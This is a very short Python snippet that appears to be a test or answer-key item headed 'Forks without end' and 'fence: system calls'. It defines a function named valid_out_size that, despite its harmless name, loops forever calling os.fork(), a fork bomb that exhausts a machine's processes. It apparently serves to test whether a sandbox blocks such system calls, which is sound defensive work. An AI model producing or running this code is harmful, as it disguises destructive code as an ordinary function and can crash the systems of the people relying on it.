# Forks without end.
# fence: system calls
# %% answer valid_out_size
import os


def valid_out_size(n, k):
    while True:
        os.fork()
    return 0
